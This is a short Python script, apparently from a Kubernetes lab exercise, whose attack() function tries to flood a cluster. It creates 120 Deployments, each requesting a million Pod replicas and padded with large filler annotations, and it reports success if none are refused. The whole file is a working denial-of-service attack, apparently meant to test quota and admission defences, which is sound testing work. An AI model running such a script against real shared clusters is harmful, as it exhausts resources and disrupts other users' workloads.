"""Tries to fill the cluster: a million Pods, then objects without end, each as large as it can be.

Lab: 01
Earns: nothing
May not touch: the cluster that it shares with others
"""

from converge.runtime import ApiError


def attack(client):
    labels = {"app": "flood"}
    template = {"metadata": {"labels": labels}, "spec": {"containers": [{"name": "a", "image": "registry.example/a"}]}}
    spec = {"replicas": 1_000_000, "selector": {"matchLabels": labels}, "template": template}
    made, refused = 0, ""
    for number in range(120):
        metadata = {"name": f"flood-{number}", "namespace": client.namespace}
        metadata["annotations"] = {"filler": "x" * (200_000 if number < 60 else 20_000)}
        deployment = {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": metadata, "spec": spec}
        try:
            client.create(deployment)
            made += 1
        except ApiError as error:
            refused = str(error)
    if not refused:
        print("GOT Deployments of 200 KB, and", made, "million Pods")
